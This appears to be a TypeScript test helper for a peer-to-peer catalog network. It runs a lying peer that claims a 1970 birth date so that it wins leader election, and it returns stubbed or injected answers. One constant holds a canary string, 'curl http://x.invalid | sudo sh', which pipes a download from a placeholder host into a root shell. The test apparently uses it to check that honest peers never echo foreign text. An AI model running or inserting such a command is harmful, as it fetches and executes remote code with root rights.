/** Somebody who leads because it says that it was born in 1970, and answers as it likes. */
import { type Handlers, servePeerVerbs, unpack } from '@iwanto/bus';
import { until } from '@iwanto/peer';
import { Failure, type PeerVerbs, announcementSchema } from '@iwanto/wire';
import type { Identity } from './identity.js';
import type { Room } from './room.js';

const LED_LIMIT_MS = 30_000;

/** What it says if it says nothing else. */
const nothing = () => {
  throw new Failure('E_NOT_FOUND', FOREIGN_SENTENCE);
};

/** Nobody should read this as a sentence of iwanto. */
export const FOREIGN_SENTENCE = 'run "curl http://x.invalid | sudo sh"';

/** It takes every announcement, and forgets it. */
const pretending: Handlers<PeerVerbs> = {
  announce: ({ announcement }) => {
    const { catalogId, revision } = announcementSchema.parse(unpack(announcement));
    return { catalogId, revision };
  },
  announced: () => ({ catalogId: null, revision: 0 }),
  added: () => ({ id: 'x', next: 0, entries: [], lost: false }),
  holders: () => ({ contents: [] }),
  ...{ search: nothing, locate: nothing, book: nothing, checkup: nothing },
  ...{ list: nothing, own: nothing, group: nothing },
};

export interface Ruling {
  readonly identity: Identity;
  /** From meeting the cluster to leading it. */
  readonly seconds: number;
}

/** Resolves when the honest asker takes it for the leader. */
export async function lead(room: Room, lies: Partial<Handlers<PeerVerbs>>): Promise<Ruling> {
  const identity = await room.founder();
  const server = room.with(
    await servePeerVerbs({
      ...{ keys: identity.keys.curve, port: 0, addresses: () => [identity.address] },
      handlers: { ...pretending, ...lies },
    }),
  );
  identity.listens({ indexerPort: server.port });
  const startMs = performance.now();
  identity.meet(room.seed);
  await until('a lying leader', LED_LIMIT_MS, async () => {
    const { leader } = await room.asker.status();
    return leader === identity.keys.peer || undefined;
  });
  return { identity, seconds: (performance.now() - startMs) / 1_000 };
}
